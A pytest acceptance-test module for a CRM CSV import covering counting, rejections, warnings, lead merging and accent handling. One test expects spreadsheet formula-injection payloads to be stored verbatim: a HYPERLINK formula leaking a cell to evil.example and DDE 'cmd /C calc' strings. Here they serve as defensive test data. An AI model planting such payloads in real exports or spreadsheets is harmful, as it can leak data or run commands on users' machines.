"""The acceptance test of imports: a messy real-world CRM export goes in and nothing is
silently dropped. Every data record is counted once, as created, merged or rejected; a bad
optional field is left blank with a warning naming its line, not a rejected row; every
rejection names its physical line and the field at fault; the same person three times is one
lead; accents and formula payloads come through exactly as written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlalchemy import func, select
from typer.testing import CliRunner

from leadflow.cli.app import app
from leadflow.models import Company, ImportJob, Lead
from tests.builders import make_workspace
from tests.imports.support import (
    counts,
    lead_by_email,
    leads,
    merges,
    messy_crm_export,
    rejections,
    run_import,
    write,
)

RECORDS = 12  # non-blank records after the header; lines 4, 11 and 20 hold none
CREATED, MERGED, REJECTED = 7, 2, 3
# line -> field the reason must name (the physical line the record starts on)
REJECTED_LINES = {9: "email", 12: "lead", 15: "row"}
# kept, the field left blank: Zoë's phone "12" (her email is good), Jane's "(at)" email
# (her phone is good)
WARNED_LINES = {10: "phone", 19: "email"}
ENCODINGS = ["cp1252", "utf-8-sig"]


@pytest.fixture(params=ENCODINGS)
def messy_file(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return write(tmp_path, messy_crm_export(request.param), name=f"crm-{request.param}.csv")


def test_the_file_is_read_as_written(session, messy_file):
    workspace = make_workspace(session)

    job, _ = run_import(session, workspace, messy_file)

    assert job.encoding == messy_file.stem.removeprefix("crm-")
    assert job.delimiter == ";"
    assert job.column_map["mapping"] == {
        "First Name": "first_name",
        "Last Name": "last_name",
        "E-mail Address": "email",
        "Mobile Phone": "phone",
        "Company Name": "company",
        "Website": "website",
        "Job Title": "title",
        "Notes": "custom:notes",
    }


def test_every_record_is_counted_once(session, messy_file):
    workspace = make_workspace(session)

    job, report = run_import(session, workspace, messy_file, chunk_rows=4)

    assert counts(report) == (RECORDS, CREATED, MERGED, REJECTED)
    assert report.created + report.merged + report.rejected == report.rows
    stored = session.get(ImportJob, job.id)
    assert (stored.rows, stored.created, stored.merged, stored.rejected) == counts(report)
    assert stored.status == "completed"  # its new leads scored with their rows
    assert stored.column_map["scoring"]["scored"] == CREATED
    assert stored.processed_bytes == stored.total_bytes == messy_file.stat().st_size
    assert len(leads(session, workspace.id)) == CREATED


def test_every_rejection_names_its_line_and_the_field(session, messy_file):
    workspace = make_workspace(session)

    job, _ = run_import(session, workspace, messy_file, chunk_rows=4)

    refused = rejections(session, job.id)
    assert [line for line, _, _ in refused] == list(REJECTED_LINES)
    for line, reason, _ in refused:
        assert reason.startswith(f"{REJECTED_LINES[line]}: "), (line, reason)
    by_line = {line: (reason, raw) for line, reason, raw in refused}
    assert "'bjorn@@example.com'" in by_line[9][0]
    assert "email" in by_line[12][0]
    assert "phone" in by_line[12][0]
    assert by_line[15][0] == "row: has 10 cells but the header has 8"
    # the rows as they were, accents included, to fix and import again
    assert by_line[9][1] == "Björn,Müller,bjorn@@example.com,,,,,über"
    assert by_line[15][1] == 'Ragged,Row,ragged@example.com,,,,,"two\nlines",extra,more'


def test_a_bad_optional_field_is_left_blank_with_a_warning_on_the_import(session, messy_file):
    workspace = make_workspace(session)

    job, _ = run_import(session, workspace, messy_file, chunk_rows=4)

    stored = session.get(ImportJob, job.id)
    warnings = stored.column_map["warnings"]
    assert {w["line"]: w["field"] for w in warnings} == WARNED_LINES
    assert "'12'" in warnings[0]["reason"]
    assert "'jane.doe(at)example.com'" in warnings[1]["reason"]
    assert stored.column_map["warned_rows"] == 2
    zoe = lead_by_email(session, workspace.id, "zoe@example.com")
    assert zoe.phone is None
    jane = session.scalar(
        select(Lead).where(Lead.workspace_id == workspace.id, Lead.first_name == "Jane")
    )
    assert (jane.email, jane.phone) == (None, "+14155550134")


def test_the_same_person_three_times_is_one_lead_with_two_merges(session, messy_file):
    workspace = make_workspace(session)

    run_import(session, workspace, messy_file, chunk_rows=4)

    jose = lead_by_email(session, workspace.id, "jose.munoz@acme-widgets.com")
    assert (jose.first_name, jose.last_name) == ("José", "Muñoz")
    assert jose.email == "jose.munoz@acme-widgets.com"  # as first written
    assert jose.phone == "+14155552671"
    assert jose.title == "Head of Sales"  # filled in by the second copy
    assert jose.custom_fields == {"notes": "Met at the expo; budget\n5000 €"}
    same_phone = select(func.count()).where(
        Lead.workspace_id == workspace.id, Lead.phone == "+14155552671"
    )
    assert session.scalar(same_phone) == 1
    company = session.get(Company, jose.company_id)
    assert (company.name, company.domain) == ("Acme Widgets", "acme-widgets.com")
    in_workspace = select(func.count()).select_from(Company)
    assert session.scalar(in_workspace.where(Company.workspace_id == workspace.id)) == 1

    recorded = merges(session, jose.id)
    assert [(m.matched_on, m.source) for m in recorded] == [("email", "import")] * 2
    assert recorded[0].changes == {"title": [None, "Head of Sales"]}
    assert recorded[0].incoming["email"] == "JOSE.MUNOZ@acme-widgets.com"
    assert recorded[1].incoming["phone"] == "+14155552671"
    # the third copy's notes are kept on its merge record, line breaks and all
    assert recorded[1].incoming["custom_fields"] == {
        "notes": "call back;\r\nafter Q3\nask for Ünal"
    }


def test_accents_and_formula_payloads_are_stored_exactly(session, messy_file):
    workspace = make_workspace(session)

    run_import(session, workspace, messy_file, chunk_rows=4)

    names = {(lead.first_name, lead.last_name) for lead in leads(session, workspace.id)}
    assert names == {
        ("José", "Muñoz"),
        ('=HYPERLINK("http://evil.example/?leak="&A1;"click")', "+cmd|' /C calc'!A0"),
        ("-2+3", "@SUM(A1:A9)"),
        ("Günther", "Überbacher"),
        ("Renée", "Dupont"),
        ("Zoë", "Ñúñez"),
        ("Jane", "Doe"),
    }
    eve = lead_by_email(session, workspace.id, "eve@formula.example")
    assert eve.title == "-2+3"
    assert eve.custom_fields == {"notes": "@SUM(1+1)*cmd|' /C calc'!A0"}
    mallory = lead_by_email(session, workspace.id, "mallory@formula.example")
    assert mallory.custom_fields == {"notes": "=1+2"}
    assert lead_by_email(session, workspace.id, "gunther@example.de").custom_fields == {}


def test_the_cli_import_gives_the_same_result(session, messy_file):
    workspace = make_workspace(session)

    result = CliRunner().invoke(app, ["import", str(messy_file), "--workspace", workspace.slug])

    assert result.exit_code == 0, result.output
    last_line = result.stdout.strip().splitlines()[-1]
    assert json.loads(last_line) == {
        "rows": RECORDS,
        "created": CREATED,
        "merged": MERGED,
        "rejected": REJECTED,
        "scored": CREATED,
        "score_failed": 0,
    }
    session.expire_all()
    assert len(leads(session, workspace.id)) == CREATED
    job_id = session.scalar(select(ImportJob.id).where(ImportJob.workspace_id == workspace.id))
    assert [line for line, _, _ in rejections(session, job_id)] == list(REJECTED_LINES)
